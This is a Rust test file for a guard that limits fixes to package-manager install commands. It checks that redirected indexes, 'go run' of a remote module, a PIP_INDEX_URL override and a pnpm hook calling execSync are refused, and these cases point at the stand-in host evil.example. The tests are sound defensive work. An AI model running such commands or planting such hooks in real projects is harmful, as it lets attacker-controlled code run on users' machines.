//! The commands that `--allow install` permits.

use std::collections::{BTreeMap, BTreeSet};

use unbreak_core::policy::guard::{Refusal, Rule};
use unbreak_core::{Command, Edit, FileOp, RelPath};

use crate::attempt::{Attempt, words};

/// The project of all commands.
const FILES: [(&str, &str); 4] = [
    (
        "requirements.txt",
        "pyyaml\ngit+https://example.org/tool.git@v1\n",
    ),
    ("pyproject.toml", "[project]\nname = \"shop\"\n"),
    ("package.json", "{}\n"),
    ("shop.py", "import yaml\n"),
];

/// A fix that runs a command and needs nothing but `install`.
fn installing(command: Command) -> Attempt {
    let mut attempt = Attempt::insertion("shop.py", "import yaml\n", 0, "");
    attempt.fix.edits.clear();
    attempt.fix.needs = Some("install".to_owned());
    attempt.fix.commands = vec![command];
    let files = FILES.map(|(file, text)| (file.to_owned(), text.to_owned()));
    attempt.files = BTreeMap::from(files);
    attempt
}

fn command(line: &str) -> Command {
    let words = words(line);
    Command::new(&words[0], &words[1..])
}

fn check(attempt: &Attempt) -> Result<(), Refusal> {
    attempt.check(&BTreeSet::from(["install".to_owned()]))
}

#[test]
fn install_commands_of_package_managers_are_accepted_and_others_are_not() {
    let mut wrong = Vec::new();
    let rows = include_str!("../cases/installs.txt").lines();
    for row in rows.filter(|row| !row.starts_with('#')) {
        let (verdict, line) = row.split_once(' ').unwrap();
        let checked = check(&installing(command(line)));
        let rule = checked.as_ref().err().map(|refusal| refusal.rule);
        let expected = (verdict == "no").then_some(Rule::RunsCommand);
        if rule != expected {
            wrong.push(format!("{row}: {checked:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn a_refusal_names_what_is_accepted() {
    let said = |line| check(&installing(command(line))).unwrap_err().to_string();
    let flag = said("uv add --index https://evil.example pyyaml");
    assert!(
        flag.contains("'--index' is not accepted; `uv add` takes names of packages, --dev"),
        "{flag}"
    );
    let subcommand = said("go run evil.example/x");
    assert!(
        subcommand.contains("accepted: go get, go mod download, go mod tidy"),
        "{subcommand}"
    );
    let program = said("make install");
    assert!(
        program.contains("'make' is not a package manager; accepted are commands of apk, apt,"),
        "{program}"
    );
}

#[test]
fn variables_input_and_changed_files_are_refused() {
    let mut variable = command("pip install pyyaml");
    variable
        .env
        .insert("PIP_INDEX_URL".to_owned(), "https://evil.example".to_owned());
    let mut input = command("pip install pyyaml");
    input.stdin = Some("evil".to_owned());
    let mut manifest = installing(command("npm install"));
    let file = RelPath::new("package.json").unwrap();
    manifest.fix.edits = vec![Edit::replace(&file, "{}\n", 0..2, "{\"a\": 1}").unwrap()];
    let mut hook = installing(command("pnpm install"));
    hook.fix.files = vec![FileOp::Create {
        file: RelPath::new(".pnpmfile.cjs").unwrap(),
        content: "require('child_process').execSync('evil')\n".to_owned(),
    }];
    let mut source = installing(command("pip install pyyaml"));
    let file = RelPath::new("shop.py").unwrap();
    source.fix.edits = vec![Edit::insert(&file, "import yaml\n", 0, "import re\n").unwrap()];
    for (attempt, word) in [
        (installing(variable), "PIP_INDEX_URL"),
        (installing(input), "input"),
        (manifest, "package.json"),
        (hook, ".pnpmfile.cjs"),
        (source, "shop.py"),
    ] {
        let refusal = check(&attempt).unwrap_err();
        assert_eq!(refusal.rule, Rule::RunsCommand);
        assert!(refusal.reason.contains(word), "{refusal}");
    }
}

#[test]
fn a_command_of_another_form_can_be_allowed_by_its_own_class() {
    let both = ["install", "runs-command"].map(str::to_owned);
    let attempt = installing(command("make install"));
    assert_eq!(attempt.check(&BTreeSet::from(both)), Ok(()));
}
